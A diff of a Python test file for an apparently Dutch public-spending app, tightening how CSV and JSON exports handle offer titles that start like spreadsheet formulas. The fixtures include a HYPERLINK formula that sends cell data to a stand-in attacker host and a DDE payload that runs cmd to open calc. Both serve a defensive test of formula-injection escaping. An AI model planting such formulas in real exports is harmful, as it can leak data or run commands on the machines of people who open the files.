@@ -93,10 +93,12 @@ def test_empty_year_and_bad_year(db: None) -> None:
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 
 
-def test_open_data_csv_neutralises_a_title_that_starts_like_a_formula(spent: World) -> None:
+def test_open_data_rechecks_a_title_that_starts_like_a_formula(spent: World) -> None:
     """Issue 14, finding 4: an offer titled like a formula (admitted before the admission check
-    refused such titles) appeared unescaped in /uitgaven.csv and the API's CSV. The page CSV
-    and the API CSV now write it with a quote mark in front, and the JSON as it is."""
+    refused such titles) appeared unescaped in /uitgaven.csv and the API's CSV. The title is
+    checked again at export: the open data (page CSV, API CSV, JSON) show a stand-in until
+    staff have looked at it (``llo register_formula_titles --flag``), and the money stays in
+    the row; any other cell that starts like a formula is written with a quote mark."""
     from llo.core import csvio
 
     spent.offer.title = HOSTILE_TITLE
@@ -111,12 +113,14 @@ def test_open_data_csv_neutralises_a_title_that_starts_like_a_formula(spent: Wor
         assert response.status_code == 200
         assert response["Content-Type"] == "text/csv; charset=utf-8"
         text = response.content.decode()
+        assert "HYPERLINK" not in text
         rows = list(csv.DictReader(io.StringIO(text, newline="")))
         mine = [r for r in rows if r["offerId"] == str(spent.offer.pk)]
         assert len(mine) == 1
-        assert mine[0]["offer"] == "'" + HOSTILE_TITLE
+        assert str(spent.offer.pk) in mine[0]["offer"]
+        assert not csvio.starts_like_formula(mine[0]["offer"])
         assert mine[0]["provider"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
-        assert csvio.restore(mine[0]["offer"]) == HOSTILE_TITLE
         assert mine[0]["amountCents"] == "1080000"
-    data = Client().get(reverse("enrolment:spending-json"), {"jaar": "2023"}).json()
-    assert HOSTILE_TITLE in {r["offer"] for r in data["rows"]}
+    raw = Client().get(reverse("enrolment:spending-json"), {"jaar": "2023"})
+    assert "HYPERLINK" not in raw.content.decode()
+    assert any(str(spent.offer.pk) in r["offer"] for r in raw.json()["rows"])
